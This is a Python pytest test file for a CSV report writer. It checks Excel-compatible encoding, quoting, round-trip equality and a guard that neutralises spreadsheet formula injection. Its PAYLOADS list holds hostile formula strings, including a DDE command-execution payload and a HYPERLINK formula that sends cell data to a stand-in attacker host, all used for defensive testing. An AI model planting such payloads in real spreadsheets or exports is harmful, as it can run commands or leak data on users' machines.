"""CSV: what Excel needs, what reads back equal, what must not run."""

import csv
import io

import pytest
from hypothesis import HealthCheck, given, settings

from svextract.errors import OutputError
from svextract.writers import csv as writer
from svextract.writers.csv import TABLES, csv_outputs, starts_formula, table_text
from svextract.writers.formats import printed
from svextract.writers.rows import OCCURRENCES, RECOMMENDATIONS
from tests.writers.reports import (
    CHECK,
    FULL,
    action,
    content,
    document,
    occurrence,
    recommendation,
    reports,
    results_of,
)

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "+44 1234 567890",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@",
    "=",
    "-",
    "- see below",
    "\t=1+1",
    "\ttab",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\0",
    " =1+1",
    "  -1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x0b=1",
    "\x1f@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫x",
    '="a"',
    "=\n1",
]
HARMLESS = [
    "",
    "Write to schools",
    "1.1 Appoint",
    "2019-03-12",
    "a=1",
    "'quoted'",
    "– see below",
    "• one",
    "£5",
    "(1)",
    "1; 2",
]


def read(content):
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def as_dicts(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def actions_text(*documents, raw=False):
    return printed(results_of(documents), "csv", raw_csv=raw)


def files_of(documents, *, raw=False):
    """What the three files hold, by name."""
    results = tuple(results_of(documents))
    return {output.name: content(output, results) for output in csv_outputs(raw=raw)}


def test_files_begin_with_a_mark_and_end_lines_as_the_standard_says():
    for written in files_of([FULL]).values():
        assert written.startswith(b"\xef\xbb\xbf" + b'"source_file","plan"')
        assert written.endswith(b'"\r\n')
    assert [output.name for output in csv_outputs()] == [
        "actions.csv",
        "recommendations.csv",
        "occurrences.csv",
    ]


def test_every_field_is_quoted_so_that_a_semicolon_ends_no_cell():
    line = actions_text(document(actions=(action("a;=1"),))).splitlines()[1]
    assert '"a;=1"' in line


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(reports)
def test_generated_reports_read_back_equal_cell_for_cell(generated):
    for name, written in files_of(generated.documents, raw=True).items():
        wanted = TABLES[name].table(generated.documents)
        assert read(written) == [list(row) for row in (wanted.columns, *wanted.rows)]


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(reports)
def test_the_pieces_of_several_plans_are_the_whole_table(generated):
    plans = (FULL, *generated.documents, FULL, FULL)
    for raw in (False, True):
        for name, written in files_of(plans, raw=raw).items():
            whole = table_text(TABLES[name].table(plans), raw=raw)
            assert written == b"\xef\xbb\xbf" + whole.encode()


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(reports)
def test_generated_reports_hold_no_formula_and_lose_nothing_but_the_apostrophe(generated):
    raw = files_of(generated.documents, raw=True)
    for name, written in files_of(generated.documents).items():
        for row, plain in zip(read(written), read(raw[name]), strict=True):
            assert not any(map(starts_formula, row))
            for cell, meant in zip(row[:-1], plain[:-1], strict=True):
                assert cell == ("'" + meant if starts_formula(meant) else meant)
            assert row[-1].startswith(plain[-1])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_cannot_run_and_the_row_says_so(payload):
    row = as_dicts(actions_text(document(actions=(action(payload),))))[0]
    assert row["action"] == "'" + payload
    assert row["flags"].startswith("note: formula_guard (")
    assert row["flags"].endswith(": action)")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_raw_leaves_a_payload_alone(payload):
    row = as_dicts(actions_text(document(actions=(action(payload),)), raw=True))[0]
    assert (row["action"], row["flags"]) == (payload, "")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_not_touched(text):
    row = as_dicts(actions_text(document(actions=(action(text),))))[0]
    assert (row["action"], row["flags"]) == (text, "")


def test_the_guard_is_named_after_the_flags_that_were_there():
    doubtful = action("=1", officers_text="@x", flags=(CHECK,))
    row = as_dicts(actions_text(document(actions=(doubtful,))))[0]
    assert row["flags"].startswith("check: row_continued (")
    assert row["flags"].endswith("; note: formula_guard (an apostrophe was put in front so that "
                                 "it cannot run: action, responsible_officer)")  # fmt: skip


def test_the_other_tables_are_guarded_and_say_so():
    made = document(
        file="=plan.pdf",
        recommendations=(recommendation(comments="+1"),),
        actions=(action(occurrences=(occurrence("-"),)),),
    )
    for kind, name in ((RECOMMENDATIONS, "comments"), (OCCURRENCES, "action")):
        row = as_dicts(table_text(kind.table([made])))[0]
        assert row["source_file"] == "'=plan.pdf"
        assert row[name].startswith("'")
        assert f"source_file, {name})" in row["flags"]


def test_a_very_long_cell_is_written_whole_and_the_reader_limit_is_restored():
    before = csv.field_size_limit()
    row = action("x" * 200_000)
    text = actions_text(document(actions=(row,)))
    assert "x" * 200_000 in text
    assert csv.field_size_limit() == before


def test_text_that_would_not_read_back_is_not_written(monkeypatch):
    monkeypatch.setattr(writer, "_line", lambda row: ",".join(row) + "\r\n")
    with pytest.raises(OutputError, match="report this fault"):
        actions_text(document(actions=(action("a,b"),)))
